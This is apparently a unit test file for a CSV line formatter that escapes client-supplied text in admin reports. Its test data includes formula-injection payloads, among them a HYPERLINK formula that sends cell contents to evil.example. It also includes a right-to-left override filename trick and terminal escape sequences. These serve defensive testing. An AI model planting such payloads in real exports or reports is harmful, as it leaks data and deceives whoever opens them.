import { describe, expect, it } from "vitest";
import { formatCsvLine } from "../../src/admin/format-csv.ts";

describe("formatCsvLine", () => {
  it("writes cells, quoting only where needed", () => {
    expect(formatCsvLine(["a", "b", "c", "d"])).toBe("a,b,c,d");
    expect(formatCsvLine(["plain", 12, true, null])).toBe("plain,12,true,");
    expect(formatCsvLine(["with,comma", 'with "quotes"', "line\nbreak", "carriage\rreturn"])).toBe(
      '"with,comma","with ""quotes""","line\nbreak","carriage\rreturn"',
    );
  });

  it("also guards formulas after white space or a line break, and in fullwidth signs (found by a security review)", () => {
    expect(formatCsvLine([" =1+1", "\n=1+1", "\uff1d1+1", "\uff20SUM(A1)", "a=b", "  plain"])).toBe(
      `' =1+1,"'\n=1+1",'\uff1d1+1,'\uff20SUM(A1),a=b,  plain`,
    );
  });

  it("writes bidirectional overrides escaped, as control characters are", () => {
    expect(formatCsvLine(["user\u202egnp.exe"])).toBe("user\\u202egnp.exe");
  });

  it("keeps spreadsheets from running client-supplied text as formulas", () => {
    expect(
      formatCsvLine([
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd",
        "-2+3",
        "@SUM(A1)",
        "\tx",
      ]),
    ).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",\'+1+cmd,\'-2+3,\'@SUM(A1),"\'\tx"');
    // Numbers, and text that only holds such a character later, stay as they are.
    expect(formatCsvLine([-5, "req-1", "a=b", "0.000026"])).toBe("-5,req-1,a=b,0.000026");
  });

  // Regression (found by an explorer): unquoted, `x;=1+1` split on `;` was a cell `=1+1`.
  it("quotes cells holding a semicolon or a tab, which spreadsheets set to split on them read as separators", () => {
    expect(formatCsvLine(["x;=1+1", "x\t=1+1", "x;@SUM(1)", "a;b", "plain"])).toBe(
      '"x;=1+1","x\t=1+1","x;@SUM(1)","a;b",plain',
    );
  });

  it("writes control characters as \\u001b and the like, so a terminal shown a report is not driven by a client's user field", () => {
    const user = "\u001b[2J\u001b]0;PWNED\u0007\u001b[31mevil\u009b";
    expect(formatCsvLine([user, "tab\tok"])).toBe(
      '"\\u001b[2J\\u001b]0;PWNED\\u0007\\u001b[31mevil\\u009b","tab\tok"',
    );
  });
});
